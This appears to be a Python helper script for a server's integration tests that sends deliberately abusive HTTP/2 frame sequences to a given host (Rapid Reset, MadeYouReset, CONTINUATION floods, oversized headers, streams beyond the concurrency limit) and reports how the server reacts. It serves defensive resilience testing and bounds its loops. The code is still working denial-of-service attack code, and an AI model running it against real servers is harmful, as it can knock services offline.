#!/usr/bin/env python3
"""HTTP/2 abuse at the frame level, for tests/it/h2_attacks.rs. Speaks h2 with prior knowledge
(h2c) to HOST:PORT with PyPI's `h2`/`hyperframe`, and prints one JSON object saying what the
server did. Every loop is bounded in count and in time (10 s).

    h2_attack.py rapid-reset HOST PORT N         HEADERS + RST_STREAM(CANCEL), N streams
    h2_attack.py made-you-reset HOST PORT N      HEADERS + WINDOW_UPDATE(0): the server resets
    h2_attack.py continuation HOST PORT BYTES    one HEADERS, then CONTINUATION without end
    h2_attack.py big-headers HOST PORT BYTES     one request whose header list is BYTES long
    h2_attack.py streams HOST PORT N PATH        N concurrent requests to PATH (held open)
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame, RstStreamFrame, WindowUpdateFrame

DEADLINE = time.monotonic() + 10.0


def connect(host, port):
    s = socket.create_connection((host, port), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn


def request_headers(host, path="/", extra=()):
    return [(":method", "GET"), (":scheme", "http"), (":authority", host), (":path", path), *extra]


class Watch:
    """Reads what the server sends, without blocking for long."""

    def __init__(self, sock, conn):
        self.sock, self.conn = sock, conn
        self.goaway = None
        self.closed = False
        self.resets = 0
        self.responses = {}
        self.settings = {}

    def poll(self, wait=0.0):
        self.sock.settimeout(wait if wait > 0 else 0.0001)
        try:
            data = self.sock.recv(65536)
        except (socket.timeout, BlockingIOError):
            return
        except OSError:
            self.closed = True
            return
        if not data:
            self.closed = True
            return
        try:
            events = self.conn.receive_data(data)
        except Exception as e:  # the server broke the protocol, or we did: stop reading
            self.closed = True
            self.goaway = self.goaway or f"client error {type(e).__name__}"
            return
        for ev in events:
            if isinstance(ev, h2.events.ConnectionTerminated):
                self.goaway = str(ev.error_code)
            elif isinstance(ev, h2.events.StreamReset):
                self.resets += 1
            elif isinstance(ev, h2.events.ResponseReceived):
                status = dict(ev.headers).get(b":status", b"").decode()
                self.responses[ev.stream_id] = status
            elif isinstance(ev, h2.events.RemoteSettingsChanged):
                for k, v in ev.changed_settings.items():
                    self.settings[int(k)] = v.new_value
        try:
            out = self.conn.data_to_send()
            if out:
                self.sock.sendall(out)
        except OSError:
            self.closed = True

    def done(self):
        return self.closed or self.goaway is not None


def send_raw(sock, frame):
    sock.sendall(frame.serialize())


def header_block(conn, headers):
    return conn.encoder.encode(headers)


def stream_flood(host, port, n, follow):
    """Opens up to n streams, each followed by the frame `follow(stream_id)`, until the server
    ends the connection; what it did."""
    sock, conn = connect(host, port)
    w = Watch(sock, conn)
    w.poll(0.2)
    sent = 0
    for i in range(n):
        if w.done() or time.monotonic() > DEADLINE:
            break
        sid = 1 + 2 * i
        try:
            send_raw(sock, HeadersFrame(sid, header_block(conn, request_headers(host)),
                                        flags=["END_HEADERS", "END_STREAM"]))
            send_raw(sock, follow(sid))
        except OSError:
            # The server hung up: read what it said first (its GOAWAY), if still there.
            w.poll(0.2)
            w.closed = True
            break
        sent += 1
        if i % 50 == 0:
            w.poll()
    end = time.monotonic() + 2
    while not w.done() and time.monotonic() < end:
        w.poll(0.1)
    return {"sent": sent, "goaway": w.goaway, "closed": w.closed, "resets": w.resets}


def rapid_reset(host, port, n):
    return stream_flood(host, port, n, lambda sid: RstStreamFrame(sid, error_code=8))  # CANCEL


def made_you_reset(host, port, n):
    # A zero increment is a stream error the server answers with RST_STREAM.
    return stream_flood(host, port, n, lambda sid: WindowUpdateFrame(sid, window_increment=0))


def continuation(host, port, total):
    sock, conn = connect(host, port)
    w = Watch(sock, conn)
    w.poll(0.2)
    block = header_block(conn, request_headers(host))
    sent = 0
    try:
        send_raw(sock, HeadersFrame(1, block, flags=[]))
        chunk = header_block(conn, [("x-flood", "a" * 8000)])
        while sent < total and not w.done() and time.monotonic() < DEADLINE:
            send_raw(sock, ContinuationFrame(1, chunk, flags=[]))
            sent += len(chunk)
            if sent % (len(chunk) * 16) < len(chunk):
                w.poll()
    except OSError:
        w.closed = True
    end = time.monotonic() + 2
    while not w.done() and time.monotonic() < end:
        w.poll(0.1)
    return {"sent_bytes": sent, "goaway": w.goaway, "closed": w.closed}


def big_headers(host, port, size):
    sock, conn = connect(host, port)
    w = Watch(sock, conn)
    w.poll(0.2)
    extra = [(f"x-big-{i}", "b" * 1000) for i in range(size // 1000)]
    try:
        conn.send_headers(1, request_headers(host, extra=extra), end_stream=True)
        sock.sendall(conn.data_to_send())
    except OSError:
        w.closed = True
    end = time.monotonic() + 3
    while not w.done() and 1 not in w.responses and w.resets == 0 and time.monotonic() < end:
        w.poll(0.1)
    return {"status": w.responses.get(1), "reset": w.resets > 0, "goaway": w.goaway,
            "closed": w.closed}


def read_frames(sock, until):
    """Raw server frames (type, flags, stream, payload) until `until(frames)` holds or 5 s pass."""
    from hyperframe.frame import Frame
    buf, frames = b"", []
    end = time.monotonic() + 5
    sock.settimeout(0.2)
    while not until(frames) and time.monotonic() < end:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            break
        if not data:
            break
        buf += data
        while len(buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
            if len(buf) < 9 + length:
                break
            frame.parse_body(memoryview(buf[9:9 + length]))
            frames.append(frame)
            buf = buf[9 + length:]
    return frames


def streams(host, port, n, path):
    from hyperframe.frame import SettingsFrame
    sock, conn = connect(host, port)
    frames = read_frames(sock, lambda fs: any(isinstance(f, SettingsFrame) and "ACK" not in f.flags
                                              for f in fs))
    limit = None
    for f in frames:
        if isinstance(f, SettingsFrame) and "ACK" not in f.flags:
            limit = f.settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS)
    send_raw(sock, SettingsFrame(0, flags=["ACK"]))
    # All at once, past the announced limit (raw frames: the h2 client would hold them back).
    for i in range(n):
        send_raw(sock, HeadersFrame(1 + 2 * i, header_block(conn, request_headers(host, path)),
                                    flags=["END_HEADERS", "END_STREAM"]))
    seen = {}

    def settled(fs):
        for f in fs:
            if isinstance(f, HeadersFrame) and f.stream_id:
                seen[f.stream_id] = "response"
            elif isinstance(f, RstStreamFrame):
                seen[f.stream_id] = f"reset {f.error_code}"
        return len(seen) >= n

    read_frames(sock, settled)
    responses = sum(1 for v in seen.values() if v == "response")
    refused = sum(1 for v in seen.values() if v == "reset 7")
    return {"max_concurrent_streams": limit, "responses": responses, "refused": refused,
            "goaway": None}


def main():
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if mode == "rapid-reset":
        out = rapid_reset(host, port, int(sys.argv[4]))
    elif mode == "made-you-reset":
        out = made_you_reset(host, port, int(sys.argv[4]))
    elif mode == "continuation":
        out = continuation(host, port, int(sys.argv[4]))
    elif mode == "big-headers":
        out = big_headers(host, port, int(sys.argv[4]))
    elif mode == "streams":
        out = streams(host, port, int(sys.argv[4]), sys.argv[5])
    else:
        raise SystemExit(f"unknown mode {mode}")
    print(json.dumps(out))


if __name__ == "__main__":
    main()
